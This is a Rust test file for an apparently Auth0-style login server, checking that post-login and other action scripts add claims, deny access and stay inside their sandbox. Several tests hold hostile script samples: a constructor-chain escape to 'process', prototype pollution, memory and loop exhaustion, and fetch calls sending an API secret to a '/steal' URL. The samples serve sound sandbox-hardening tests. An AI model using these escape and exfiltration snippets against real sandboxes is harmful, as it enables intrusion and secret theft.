//! Actions through real logins: Auth0-style post-login and credentials-exchange scripts add
//! claims, scopes and metadata, deny access, and hostile scripts end only their own run.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::time::Duration;

use gatehouse::actions::RunError;
use gatehouse::types::UserId;

use crate::harness::*;

/// Write `source` to a file of `dir` and return its path.
pub fn script(dir: &TempDir, name: &str, source: &str) -> PathBuf {
    let p = dir.0.join(name);
    std::fs::write(&p, source).unwrap();
    p
}

pub fn with_actions(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> String {
    let mut config = crate::harness::config("ES256");
    // Limits other than the defaults (16 MiB, 100 ms), so the tests show configured values
    // apply; a generous time limit, so a loaded 2-core machine passes.
    config.push_str("\n[actions]\ntime_limit_ms = 1500\nmemory_limit_mb = 8\n");
    for (name, path) in post_login {
        config.push_str(&format!(
            "[[actions.post_login]]\nname = \"{name}\"\nfile = \"{}\"\nsecrets = {{ API_KEY = \"action-secret-value-42\" }}\n",
            path.display()
        ));
    }
    for (name, path) in credentials_exchange {
        config
            .push_str(&format!("[[actions.credentials_exchange]]\nname = \"{name}\"\nfile = \"{}\"\n", path.display()));
    }
    config
}

pub async fn app_with(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> TestApp {
    TestApp::with(Options { config: Some(with_actions(post_login, credentials_exchange)), ..Default::default() }).await
}

fn beta() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/actions/beta-tester.js")
}

/// Give Ada the "beta" group before she signs in.
async fn make_ada_a_beta_tester(app: &TestApp) {
    tokens_for_ada(app).await;
    let id = UserId::parse("auth0|ada").unwrap();
    let mut ada = app.core.store.users.get(&id).await.unwrap().unwrap();
    ada.app_metadata.insert("groups".into(), serde_json::json!(["beta"]));
    app.core.store.users.put(&ada).await.unwrap();
}

pub async fn login_as(app: &TestApp, b: &reqwest::Client, client: &str, user: &str, password: &str) -> String {
    let (verifier, challenge) = pkce();
    let redirect = if client == "web" { WEB_REDIRECT } else { SPA_REDIRECT };
    let extra: &[(&str, &str)] = if client == "spa" { &[("connection", "admins")] } else { &[] };
    let done = login(app, b, &authorize_url(app, client, redirect, &challenge, extra), user, password).await;
    let code = param(&done, "code").unwrap_or_else(|| panic!("no code: {done}"));
    let mut form = vec![
        ("grant_type", "authorization_code"),
        ("code", code.as_str()),
        ("redirect_uri", redirect),
        ("code_verifier", verifier.as_str()),
    ];
    let req = http().post(app.url("/token"));
    let req = if client == "web" {
        req.basic_auth("web", Some(WEB_SECRET))
    } else {
        form.push(("client_id", client));
        req
    };
    let t: serde_json::Value = req.form(&form).send().await.unwrap().json().await.unwrap();
    t["id_token"].as_str().map(str::to_owned).unwrap_or_else(|| panic!("no tokens: {t}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_beta_tester_action_runs_through_openid_client() {
    let app = app_with(&[("beta", &beta())], &[]).await;
    make_ada_a_beta_tester(&app).await;
    // The openid-client relying party does the whole flow and validates the ID token.
    let peer = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/peers/openid-client");
    assert!(peer.join("node_modules/openid-client").is_dir(), "run ./scripts/setup");
    let out = output_within(
        std::process::Command::new(node())
            .arg(peer.join("rp.mjs"))
            .env("ISSUER", &app.issuer)
            .env("CLIENT_ID", "web")
            .env("CLIENT_SECRET", WEB_SECRET)
            .env("REDIRECT_URI", WEB_REDIRECT)
            .env("USERNAME", "ada@example.com")
            .env("PASSWORD", PASSWORD)
            .env("ID_TOKEN_ALG", "ES256"),
        PEER_DEADLINE,
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}\n{stdout}", String::from_utf8_lossy(&out.stderr));
    let v: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
    assert_eq!(v["id_token_claims"]["isBetaTester"], true, "Ada is in the beta group");

    // Root is not: no claim, no scope.
    let id = login_as(&app, &browser(), "spa", "root@example.com", OTHER_PASSWORD).await;
    assert!(claims(&id).get("isBetaTester").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claims_scopes_metadata_and_machine_tokens() {
    let dir = TempDir::new();
    let post = script(
        &dir,
        "post.js",
        r#"exports.onExecutePostLogin = async (event, api) => {
             api.accessToken.setCustomClaim("https://app.test/tier", "gold");
             api.accessToken.addScope("read:beta");
             api.accessToken.removeScope("offline_access");
             api.idToken.setCustomClaim("logins_seen", event.user.app_metadata.logins_seen || 0);
             api.user.setAppMetadata("logins_seen", (event.user.app_metadata.logins_seen || 0) + 1);
             api.idToken.setCustomClaim("sub", "attacker");
             api.idToken.setCustomClaim("iss", "https://evil.test");
           };"#,
    );
    let m2m = script(
        &dir,
        "m2m.js",
        r#"exports.onExecuteCredentialsExchange = async (event, api) => {
             api.accessToken.setCustomClaim("https://api.test/tenant", event.client.client_id + ":acme");
           };"#,
    );
    let app = app_with(&[("post", &post)], &[("m2m", &m2m)]).await;
    let t = tokens_for_ada(&app).await;
    let at = claims(t["access_token"].as_str().unwrap());
    assert_eq!(at["https://app.test/tier"], "gold");
    assert_eq!(at["scope"], "openid profile email read:beta", "a scope added, one removed");
    assert_eq!(t["scope"], "openid profile email read:beta", "the token response's scope says so too (RFC 6749 5.1)");
    let id = claims(t["id_token"].as_str().unwrap());
    assert_eq!(id["sub"], "auth0|ada", "reserved claims cannot be overwritten");
    assert_eq!(id["iss"], app.issuer);
    assert_eq!(id["logins_seen"], 0);
    // app_metadata written by the action is there at the next login.
    let again = tokens_for_ada(&app).await;
    assert_eq!(claims(again["id_token"].as_str().unwrap())["logins_seen"], 1);
    let ada = app.core.store.users.get(&UserId::parse("auth0|ada").unwrap()).await.unwrap().unwrap();
    assert_eq!(ada.app_metadata["logins_seen"], 2);
    // The claims ride along on refresh.
    let refreshed: serde_json::Value = http()
        .post(app.url("/token"))
        .basic_auth("web", Some(WEB_SECRET))
        .form(&[("grant_type", "refresh_token"), ("refresh_token", t["refresh_token"].as_str().unwrap())])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(claims(refreshed["access_token"].as_str().unwrap())["https://app.test/tier"], "gold");

    let cc: serde_json::Value = http()
        .post(app.url("/token"))
        .form(&[("grant_type", "client_credentials"), ("client_id", "m2m"), ("client_secret", M2M_SECRET)])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(claims(cc["access_token"].as_str().unwrap())["https://api.test/tenant"], "m2m:acme");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denial_reaches_the_client_and_opens_no_session() {
    let dir = TempDir::new();
    let deny = script(
        &dir,
        "deny.js",
        r#"exports.onExecutePostLogin = async (event, api) => {
             if (event.user.email === "root@example.com") api.access.deny("root may not use this app");
           };"#,
    );
    let app = app_with(&[("deny", &deny)], &[]).await;
    let b = browser();
    let (_, challenge) = pkce();
    let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
    let r = b.get(&url).send().await.unwrap();
    let hosted = location(&r);
    let page = b.get(app.url(&hosted)).send().await.unwrap().text().await.unwrap();
    let r = b
        .post(app.url(&format!("{hosted}/credentials")))
        .form(&[
            ("csrf", hidden(&page, "csrf").as_str()),
            ("username", "root@example.com"),
            ("password", OTHER_PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    assert!(
        r.headers().get_all("set-cookie").iter().all(|c| !c.to_str().unwrap().starts_with("gh_session=")),
        "no session"
    );
    let to = location(&r);
    assert!(to.starts_with(SPA_REDIRECT), "{to}");
    assert_eq!(param(&to, "error").as_deref(), Some("access_denied"));
    assert_eq!(param(&to, "error_description").as_deref(), Some("root may not use this app"));
    assert_eq!(param(&to, "state").as_deref(), Some("st-123"));
    assert!(param(&to, "code").is_none());
    // prompt=none afterwards: no session was opened.
    let r = b.get(authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("prompt", "none")])).send().await.unwrap();
    assert_eq!(param(&location(&r), "error").as_deref(), Some("login_required"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_actions_end_only_their_own_run() {
    // The loopback listener an action tries to reach: it must see no request.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let dir = TempDir::new();
    // The hostile behaviour is chosen by the password-less field the test controls: the
    // login_hint is not visible to actions, so the user's email picks it (root is hostile).
    let hostile = |body: &str| {
        format!(
            r#"exports.onExecutePostLogin = async (event, api) => {{
                 if (event.user.email === "root@example.com") {{ {body} }}
                 api.idToken.setCustomClaim("ok", true);
                 api.idToken.setCustomClaim("polluted", ({{}}).isAdmin === true);
               }};"#
        )
    };
    // Each case with the reason it must end for: a case stopped for another reason fails.
    type Case = (&'static str, String, fn(&RunError) -> bool);
    let cases: [Case; 7] = [
        ("loop", "while (true) {}".to_owned(), |e| *e == RunError::Deadline(1500)),
        ("await-loop", "await null; while (true) {}".to_owned(), |e| *e == RunError::Deadline(1500)),
        // 8 MiB configured: the memory limit stops it, long before the time limit.
        ("memory", "const a = []; while (true) a.push('x'.repeat(1 << 20));".to_owned(), |e| *e == RunError::Memory(8)),
        (
            "recursion",
            "const f = (n) => f(n + 1) + 1; f(0);".to_owned(),
            |e| matches!(e, RunError::Threw(m) if m.contains("Maximum call stack size exceeded")),
        ),
        ("escape", "({}).constructor.constructor('return process')().exit(1);".to_owned(), |e| {
            *e == RunError::Threw("process is not defined".into())
        }),
        ("fetch", format!("await fetch('http://127.0.0.1:{port}/steal?k=' + event.secrets.API_KEY);"), |e| {
            *e == RunError::Threw("fetch is not defined".into())
        }),
        (
            "pollute",
            "Object.prototype.isAdmin = true; throw new Error('leaked ' + event.secrets.API_KEY);".to_owned(),
            |e| *e == RunError::Threw("leaked [redacted]".into()),
        ),
    ];
    for (name, body, reason) in cases {
        let path = script(&dir, &format!("{name}.js"), &hostile(&body));
        let app = app_with(&[(name, &path)], &[]).await;
        assert_eq!(
            app.core.settings.actions.limits,
            gatehouse::actions::Limits {
                memory_bytes: 8 << 20,
                time: Duration::from_millis(1500),
                ..Default::default()
            },
            "the configured limits are the ones in force"
        );
        let b = browser();
        let (_, challenge) = pkce();
        let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
        let started = std::time::Instant::now();
        let r = submit_credentials(&app, &b, &url, "root@example.com", OTHER_PASSWORD).await;
        // Not a timing claim (why_it_fails below names the limit that ended the run); a run
        // the limits did not bound would hold the login far longer than this slack for a
        // loaded machine, where a debug build's password hash alone takes seconds.
        assert!(started.elapsed() < Duration::from_secs(30), "{name}: bounded by the sandbox limits");
        assert_eq!(r.status(), 500, "{name}: the login is refused");
        assert!(r.headers().get("location").is_none(), "{name}: no code");
        let body = r.text().await.unwrap();
        assert!(body.contains("Sign-in could not be completed") && body.contains("correlation-id"), "{name}: {body}");
        assert!(!body.contains("action-secret-value-42"), "{name}: the secret is not shown");
        // Why it ended: the same chain, with the limits the node loaded, on root's event.
        let failed = why_it_fails(&app, serde_json::json!({ "user": { "email": "root@example.com" } })).await;
        assert!(reason(&failed.error), "{name}: ended for the wrong reason: {:?}", failed.error);
        // The next, benign login on the same node succeeds, and sees no pollution.
        let id = login_as(&app, &browser(), "web", "ada@example.com", PASSWORD).await;
        let c = claims(&id);
        assert_eq!(c["ok"], true, "{name}: the node still serves logins");
        assert_eq!(c["polluted"], false, "{name}: Object.prototype is fresh in the next run");
    }
    let mut buf = [0u8; 1];
    assert!(listener.accept().map(|(mut s, _)| s.read(&mut buf)).is_err(), "fetch reached the loopback listener");
}

#[test]
fn the_action_test_runner_prints_what_an_action_asks_for() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = output_within(
        std::process::Command::new(BIN)
            .args(["actions", "test", "fixtures/actions/beta-tester.js", "--event", "fixtures/actions/event.json"])
            .current_dir(root),
        PEER_DEADLINE,
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["id_token_claims"]["isBetaTester"], true);
    assert_eq!(v["added_scopes"], serde_json::json!(["read:beta"]));
    assert_eq!(v["denied"], serde_json::Value::Null);

    let dir = TempDir::new();
    let broken = script(&dir, "broken.js", "exports.onExecutePostLogin = async (event, api) => {");
    let out = output_within(
        std::process::Command::new(BIN)
            .arg("actions")
            .arg("test")
            .arg(&broken)
            .args(["--event", root.join("fixtures/actions/event.json").to_str().unwrap()]),
        PEER_DEADLINE,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not compile"));
}

#[test]
fn check_config_reports_action_syntax_errors() {
    let dir = TempDir::new();
    let broken =
        script(&dir, "broken.js", "exports.onExecutePostLogin = (event, api) => { api.idToken.setCustomClaim(; };");
    let missing = script(&dir, "missing.js", "exports.somethingElse = () => {};");
    let config = dir.0.join("gatehouse.toml");
    std::fs::write(
        &config,
        format!(
            "[[actions.post_login]]\nname = \"broken\"\nfile = \"{}\"\n[[actions.post_login]]\nname = \"missing\"\nfile = \"missing.js\"\n[[actions.post_login]]\nname = \"absent\"\nfile = \"nope.js\"\n",
            broken.display()
        ),
    )
    .unwrap();
    let _ = missing;
    let out = output_within(std::process::Command::new(BIN).arg("check-config").arg(&config), PEER_DEADLINE);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("actions.post_login[0].file") && err.contains("does not compile"), "{err}");
    assert!(err.contains("actions.post_login[1].file") && err.contains("does not export onExecutePostLogin"), "{err}");
    assert!(err.contains("actions.post_login[2].file") && err.contains("cannot read"), "{err}");
}

/// A one-request HTTP server on loopback: answers `body` as JSON and reports what it read.
pub fn one_shot_server(body: &'static str) -> (u16, std::sync::mpsc::Receiver<String>) {
    use std::io::Write;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        if let Ok((mut s, _)) = listener.accept() {
            let mut buf = [0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, rx)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fetch_reaches_only_allowed_hosts() {
    let (allowed, seen) = one_shot_server(r#"{"tier":"gold"}"#);
    let forbidden = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    forbidden.set_nonblocking(true).unwrap();
    let forbidden_port = forbidden.local_addr().unwrap().port();
    let dir = TempDir::new();
    let path = script(
        &dir,
        "fetch.js",
        &format!(
            r#"exports.onExecutePostLogin = async (event, api) => {{
                 if (event.user.email === "root@example.com") {{
                   await fetch("http://127.0.0.1:{forbidden_port}/steal?k=" + event.secrets.API_KEY);
                 }}
                 const r = await fetch("http://127.0.0.1:{allowed}/tier", {{ headers: {{ "x-api-key": event.secrets.API_KEY }} }});
                 api.idToken.setCustomClaim("tier", (await r.json()).tier);
               }};"#
        ),
    );
    let mut config = with_actions(&[("fetch", &path)], &[]);
    config.push_str(&format!("allow_hosts = [\"127.0.0.1:{allowed}\"]\n"));
    let app = TestApp::with(Options { config: Some(config), ..Default::default() }).await;

    let id = login_as(&app, &browser(), "web", "ada@example.com", PASSWORD).await;
    assert_eq!(claims(&id)["tier"], "gold", "an allowed host answers");
    let request = seen.recv_timeout(Duration::from_secs(5)).unwrap();
    assert!(request.starts_with("GET /tier") && request.contains("x-api-key: action-secret-value-42"), "{request}");

    // Root's run tries a host not on the list: refused before any connection, and the login
    // fails cleanly.
    let b = browser();
    let (_, challenge) = pkce();
    let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
    let r = submit_credentials(&app, &b, &url, "root@example.com", OTHER_PASSWORD).await;
    assert_eq!(r.status(), 500);
    assert!(forbidden.accept().is_err(), "the forbidden host saw no connection");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pre_user_registration_shapes_or_refuses_new_users() {
    let dir = TempDir::new();
    let path = script(
        &dir,
        "register.js",
        r#"exports.onExecutePreUserRegistration = async (event, api) => {
             if (event.user.email.startsWith("root@")) {
               api.access.deny("blocked_domain", "Administrators cannot sign up here.");
               return;
             }
             api.user.setAppMetadata("plan", "free");
             api.user.setUserMetadata("signup_connection", event.connection.id);
           };"#,
    );
    let mut config = crate::harness::config("ES256");
    config.push_str(&format!(
        "\n[[actions.pre_user_registration]]\nname = \"register\"\nfile = \"{}\"\n",
        path.display()
    ));
    let app = TestApp::with(Options { config: Some(config), ..Default::default() }).await;

    tokens_for_ada(&app).await;
    let ada = app.core.store.users.get(&UserId::parse("auth0|ada").unwrap()).await.unwrap().unwrap();
    assert_eq!(ada.app_metadata["plan"], "free");
    assert_eq!(ada.user_metadata["signup_connection"], "users");

    let b = browser();
    let (_, challenge) = pkce();
    let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
    let r = submit_credentials(&app, &b, &url, "root@example.com", OTHER_PASSWORD).await;
    let to = location(&r);
    assert_eq!(param(&to, "error").as_deref(), Some("access_denied"));
    assert_eq!(param(&to, "error_description").as_deref(), Some("Administrators cannot sign up here."));
    assert!(app.core.store.users.get(&UserId::parse("auth0|root").unwrap()).await.unwrap().is_none(), "no user stored");
}

const CONTINUE_SECRET: &str = "action-secret-value-42";

/// Run the node's post-login chain directly on `event`, to see why it fails.
pub async fn why_it_fails(app: &TestApp, event: serde_json::Value) -> gatehouse::actions::ActionFailed {
    gatehouse::actions::run(
        &app.core.settings.actions,
        gatehouse::actions::Trigger::PostLogin,
        &event,
        app.core.store.action_cache.as_ref(),
        &app.core.clock,
    )
    .await
    .unwrap_err()
}

pub fn sign_hs256(claims: serde_json::Value) -> String {
    let mut claims = claims;
    claims["exp"] = (std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() + 60).into();
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &claims,
        &jsonwebtoken::EncodingKey::from_secret(CONTINUE_SECRET.as_bytes()),
    )
    .unwrap()
}

pub fn verify_hs256(token: &str) -> serde_json::Value {
    let mut v = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::HS256);
    v.validate_aud = false;
    jsonwebtoken::decode::<serde_json::Value>(
        token,
        &jsonwebtoken::DecodingKey::from_secret(CONTINUE_SECRET.as_bytes()),
        &v,
    )
    .unwrap()
    .claims
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirect_and_continue_complete_the_login_once() {
    let dir = TempDir::new();
    let path = script(
        &dir,
        "redirect.js",
        r#"exports.onExecutePostLogin = async (event, api) => {
             const token = api.redirect.encodeToken({
               secret: event.secrets.API_KEY, payload: { user: event.user.user_id }, expiresInSeconds: 60,
             });
             api.idToken.setCustomClaim("before_redirect", true);
             api.redirect.sendUserTo("http://external.test/confirm", { query: { session_token: token } });
           };
           exports.onContinuePostLogin = async (event, api) => {
             const payload = api.redirect.validateToken({ secret: event.secrets.API_KEY, tokenParameterName: "session_token" });
             api.idToken.setCustomClaim("confirmed_by", payload.user);
           };"#,
    );
    let app = app_with(&[("redirect", &path)], &[]).await;
    let b = browser();
    let (verifier, challenge) = pkce();
    let url = authorize_url(&app, "web", WEB_REDIRECT, &challenge, &[]);
    let r = submit_credentials(&app, &b, &url, "ada@example.com", PASSWORD).await;
    let away = location(&r);
    assert!(away.starts_with("http://external.test/confirm?"), "{away}");
    assert!(
        r.headers().get_all("set-cookie").iter().all(|c| !c.to_str().unwrap().starts_with("gh_session=")),
        "no session yet"
    );
    let state = param(&away, "state").unwrap();
    let sent = param(&away, "session_token").unwrap();
    // The external page reads the action's token and answers with its own, carrying the
    // `state` it was sent (as Auth0 requires of the token validateToken checks).
    let user = verify_hs256(&sent)["user"].as_str().unwrap().to_owned();
    let token = sign_hs256(serde_json::json!({ "user": user, "state": state }));
    let back = format!("{}?state={state}&session_token={token}", app.url("/continue"));
    let another_browser = browser();
    assert_eq!(
        another_browser.get(&back).send().await.unwrap().status(),
        400,
        "only the browser that left may continue"
    );
    let r = b.get(&back).send().await.unwrap();
    let done = location(&r);
    assert!(done.starts_with(WEB_REDIRECT), "{done}");
    assert_eq!(param(&done, "state").as_deref(), Some("st-123"));
    let t: serde_json::Value = redeem(&app, &param(&done, "code").unwrap(), &verifier).await.json().await.unwrap();
    let id = claims(t["id_token"].as_str().unwrap());
    assert_eq!(id["confirmed_by"], "auth0|ada");
    assert_eq!(id["before_redirect"], true, "claims from before the redirect are kept");
    assert_eq!(b.get(&back).send().await.unwrap().status(), 400, "a continue state works once");

    // Signed with the right secret but made for the first login (another state), or with no
    // state at all: it does not continue another login.
    let b = browser();
    let (_, challenge) = pkce();
    let authorize = authorize_url(&app, "web", WEB_REDIRECT, &challenge, &[]);
    let start = || submit_credentials(&app, &b, &authorize, "ada@example.com", PASSWORD);
    for replayed in [token.clone(), sign_hs256(serde_json::json!({ "user": "auth0|ada" }))] {
        let state = param(&location(&start().await), "state").unwrap();
        let r = b.get(format!("{}?state={state}&session_token={replayed}", app.url("/continue"))).send().await.unwrap();
        assert_eq!(r.status(), 500, "a token of another login is refused");
        assert!(r.headers().get("location").is_none());
    }
    // A forged token fails validateToken: the login is refused.
    let state = param(&location(&start().await), "state").unwrap();
    let forged = format!(
        "{}?state={state}&session_token=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYWRtaW4ifQ.AAAA",
        app.url("/continue")
    );
    let r = b.get(&forged).send().await.unwrap();
    assert_eq!(r.status(), 500);
    assert!(r.headers().get("location").is_none());
}
